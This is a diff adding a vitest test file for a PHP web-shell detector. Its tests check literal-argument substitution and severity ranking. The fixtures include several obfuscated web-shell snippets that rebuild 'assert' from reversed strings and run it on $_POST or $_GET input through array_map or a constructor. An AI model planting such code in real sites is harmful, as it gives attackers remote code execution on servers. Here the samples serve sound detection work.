@@ -1,0 +1,62 @@
+/**
+ * A function of the page's own whose only call gives it constants: its body read with them
+ * (literal-arguments.ts), so a callback it builds from them is worked out (issue 27).
+ */
+import { describe, expect, it } from 'vitest';
+import { withLiteralArguments } from '../../src/findings/web-shell/literal-arguments.js';
+import { isRuleAlarm, topFinding } from '../support/top-finding.js';
+
+describe('a function called once with constants', () => {
+  it('reads its parameters as those constants, and what it sets them to from them', () => {
+    const page = `<?php function y($b, $c) { $b = strrev($b); array_map(f($b), array($c)); }
+y("trea", $_POST['x']);`;
+    expect(withLiteralArguments(page)).toContain(`$b = 'aert'; array_map(f('aert'), array($c))`);
+  });
+
+  it('reads a constructor by its class, called with `new`', () => {
+    const page = `<?php class A { function __construct($f, $a) { $f($a); } }
+new A('assert', $_POST['q']);`;
+    expect(withLiteralArguments(page)).toContain(`{ 'assert'($a); }`);
+  });
+
+  it('leaves a function called twice, strings and elements as they are', () => {
+    const twice = `<?php function y($b) { $b($_GET['x']); } y('trim'); y('assert');`;
+    expect(withLiteralArguments(twice)).toBe(twice);
+    const page = `<?php function y($b) { echo '$b', "$b"; $b[0] = 'x'; echo $b; } y('ab');`;
+    expect(withLiteralArguments(page)).toBe(page);
+  });
+
+  it('stops at an assignment it cannot work out, and at a loop that sets the name', () => {
+    const page = `<?php function y($b, $l) { $b = $l[0]; echo $b; foreach ($l as $b) g($b); }
+y('x', $_GET['l']);`;
+    expect(withLiteralArguments(page)).toBe(page);
+    const loop = `<?php function y($b, $l) { echo $b; foreach ($l as $k => $b) g($b); } y('x', $z);`;
+    expect(withLiteralArguments(loop)).toContain(`echo 'x'; foreach ($l as $k => $b) g($b);`);
+  });
+
+  it('ranks the wrapper that splices a runner from its literals as a shell', () => {
+    const shell = `<?php
+error_reporting(0);
+$b = "zxczxczxc";
+function yuag_array($b, $c) {
+  $b = strrev($b);
+  print "www.example.org";
+  array_map(substr_replace($b, 'ss', 1, 0), array($c));
+}
+yuag_array("trea", $_POST['yuag']);`;
+    expect(topFinding('/var/www/html/y.php', shell)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringContaining('the constants its functions are given'),
+    });
+  });
+
+  it('leaves an application wrapper given a filter by name alone', () => {
+    const page = `<?php
+function clean_all($filter, $values) {
+  $filter = strtolower($filter);
+  return array_map($filter, $values);
+}
+$rows = clean_all('TRIM', $_POST['rows']);`;
+    expect(isRuleAlarm('/var/www/html/form.php', page)).toBe(false);
+  });
+});
